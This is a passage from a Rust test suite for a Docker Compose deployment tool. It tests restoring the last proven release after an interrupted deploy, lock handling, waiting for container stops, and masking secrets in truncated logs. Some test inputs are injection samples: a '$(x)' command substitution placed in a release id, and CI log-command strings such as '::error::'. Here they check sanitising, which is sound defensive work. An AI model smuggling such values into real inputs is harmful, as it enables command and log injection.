*" compose "*" up "*) echo "docker $*" >> {d}/ups ;;
*" config --images "*) echo reg/web@sha256:1 ;;
*" image inspect "*) echo sha256:1 ;;
*" events "*) ;;
*" status=removing "*) ;;
*" ps -aq "*) echo c1 ;;
*" ps -q "*) echo c1 ;;
*" inspect "*"{{{{.Image}}}}"*) echo "${{IMG:-sha256:1}}" ;;
*" inspect "*".Config}}}}"*) echo '{{"StopTimeout":0}}' ;;
*" inspect "*RestartCount*) echo "c1 /shop-web-1 ${{STATE:-running}} ${{CODE:-0}} 0 {{\"Health\":{{\"Status\":\"${{HEALTH:-healthy}}\"}}}}" ;;
esac"#,
        d = dir.display()
    )
}

#[test]
fn the_heal_restores_proves_records_and_releases_the_lock() {
    let tmp = tempfile::tempdir().unwrap();
    let layout = Layout {
        deploy_dir: tmp.path().display().to_string(),
        project: "shop".into(),
    };
    let lock = layout.lock_dir();
    // r0 and r1 were proven; r2 is the interrupted run's, pending: the heal goes to r1.
    for (id, outcome) in [("r0", "deployed"), ("r1", "deployed"), ("r2", "pending")] {
        let dir = format!("{}/{id}", layout.releases_dir());
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(
            format!("{dir}/{RECORD_FILE}"),
            format!("{{\n  \"outcome\": \"{outcome}\",\n  \"updated_at\": \"x\"\n}}\n"),
        )
        .unwrap();
    }
    let pending = format!("{}/r2/{RECORD_FILE}", layout.releases_dir());
    std::fs::create_dir_all(&lock).unwrap();
    std::fs::write(format!("{lock}/token"), "heal-s1\n").unwrap();
    let docker = heal_docker(tmp.path());
    // Armed: the script is in the lock.
    run_with_docker(&docker, &layout.arm_heal());
    let heal = format!("{lock}/{HEAL_FILE}");
    let run = Cmd::new(["sh", &heal, &lock, "heal-s1"]);
    let out = run_with_docker_stdin(&docker, &run, b"");
    assert!(out.status.success(), "{out:?}");
    assert_eq!(
        std::fs::read_to_string(tmp.path().join("ups")).unwrap(),
        // Exactly the command berth itself runs for release r1.
        format!(
            "{}\n",
            quote_argv(&layout.compose("r1", &["up", "-d", "--remove-orphans"]).0)
        )
    );
    assert_eq!(
        std::fs::read_link(layout.current())
            .unwrap()
            .display()
            .to_string(),
        ".berth/releases/r1"
    );
    let note = std::fs::read_to_string(format!("{}/{HEALED_NOTE}", layout.berth_dir())).unwrap();
    let parsed = parse_healed_note(&note).expect("the note, as the next run reads it");
    assert_eq!((parsed.restored.as_str(), parsed.proven), ("r1", true));
    // Text from the host goes into the next run's report: only the heal's own characters
    // (no line break, so nothing of it starts a line of the log).
    let odd = parse_healed_note(
        r###"{"at": "2026-12-02T04:00:00Z\n::error::x", "began": "", "restored": "r1", "proven": false, "why": "##[error]x `y`"}"###,
    )
    .unwrap();
    assert_eq!(
        (odd.at.as_str(), odd.why.as_str()),
        ("2026-12-02T04:00:00Z::error::x", "errorx y")
    );
    // A note naming no release id is not taken (it goes into the next run's report).
    assert!(parse_healed_note(&note.replace("\"r1\"", "\"$(x)\"")).is_none());
    assert!(std::fs::read_to_string(&pending)
        .unwrap()
        .contains("\"outcome\": \"interrupted\""));
    assert!(!std::path::Path::new(&lock).exists(), "the lock stayed");

    // A container that is down after the restore: tried twice, recorded unproven, and the
    // lock is released all the same.
    std::fs::create_dir_all(&lock).unwrap();
    std::fs::write(format!("{lock}/token"), "heal-s1\n").unwrap();
    std::fs::remove_file(tmp.path().join("ups")).unwrap();
    run_with_docker(&docker, &layout.arm_heal());
    let down = format!("STATE=exited CODE=137\n{docker}");
    let out = run_with_docker_stdin(&down, &run, b"");
    assert!(!out.status.success(), "{out:?}");
    assert_eq!(
        std::fs::read_to_string(tmp.path().join("ups"))
            .unwrap()
            .lines()
            .count(),
        2
    );
    let note = std::fs::read_to_string(format!("{}/{HEALED_NOTE}", layout.berth_dir())).unwrap();
    let note: serde_json::Value = serde_json::from_str(&note).unwrap();
    assert_eq!(note["proven"], false);
    assert!(
        note["why"]
            .as_str()
            .unwrap()
            .contains("shop-web-1 is exited"),
        "{note}"
    );
    assert!(!std::path::Path::new(&lock).exists());

    // Containers that run another image than the release pins: not proven either.
    std::fs::create_dir_all(&lock).unwrap();
    std::fs::write(format!("{lock}/token"), "heal-s1\n").unwrap();
    run_with_docker(&docker, &layout.arm_heal());
    let other = format!("IMG=sha256:2\n{docker}");
    let out = run_with_docker_stdin(&other, &run, b"");
    assert!(!out.status.success(), "{out:?}");
    let note = std::fs::read_to_string(format!("{}/{HEALED_NOTE}", layout.berth_dir())).unwrap();
    let note = parse_healed_note(&note).unwrap();
    assert!(!note.proven);
    assert!(
        note.why
            .contains("images the release does not pin: sha256:2"),
        "{}",
        note.why
    );
}

#[test]
fn a_restore_waits_for_a_stop_in_flight() {
    let tmp = tempfile::tempdir().unwrap();
    let layout = layout();
    let flag = tmp.path().join("stopping");
    std::fs::write(&flag, "").unwrap();
    // `c1` was sent a kill (a stop) and still runs until the flag goes.
    let docker = format!(
        r#"case " $* " in
*" events "*) echo "c1 kill"; echo "c1 exec_die"; echo "c1 health_status: healthy" ;;
*" status=removing "*) ;;
*" ps -aq "*) echo c1 ;;
*" inspect "*".Config}}}}"*) echo '{{"Hostname":"x"}}' ;;
*" inspect "*State.Running*) [ -e {f} ] && echo " /shop-web-1" ;;
*" up "*) echo "up ran" ;;
esac"#,
        f = flag.display()
    );
    let flag2 = flag.clone();
    let remover = std::thread::spawn(move || {
        std::thread::sleep(std::time::Duration::from_millis(1500));
        std::fs::remove_file(flag2).unwrap();
    });
    let started = std::time::Instant::now();
    let mut cmd = layout.settle_and_activate("r1");
    // Not on a real host: `current` is not switched here (no deploy dir).
    cmd.0[2] = cmd.0[2].replace("&& ln -sfn", "&& true || ln -sfn");
    let out = run_with_docker_stdin(&docker, &cmd, b"");
    remover.join().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        started.elapsed() >= std::time::Duration::from_millis(1400),
        "{text}"
    );
    assert!(
        text.starts_with("berth: waiting for Docker to finish stopping or removing: shop-web-1\n"),
        "{text}"
    );
    assert!(text.ends_with("up ran\n"), "{text}");
}

/// Issue 25: a log line cut at 2,000 bytes on the host can end in the start of a secret
/// whose rest never crossed the connection, so no mask matches it.
#[test]
fn a_secret_cut_with_a_log_line_on_the_host_is_masked() {
    let secret = "host-cut-secret-9150".to_string();
    let masks = [secret.clone()];
    let log = format!(
        "{}host-cut-se … [line cut: 9 more]\nwhole {secret} line\nlast\n",
        "a".repeat(1989)
    );
    let kept = scrubbed_log(&masks, &log);
    assert_eq!(
        kept,
        format!(
            "{}*** … [line cut: 9 more]\nwhole *** line\nlast\n",
            "a".repeat(1989)
        )
    );
}
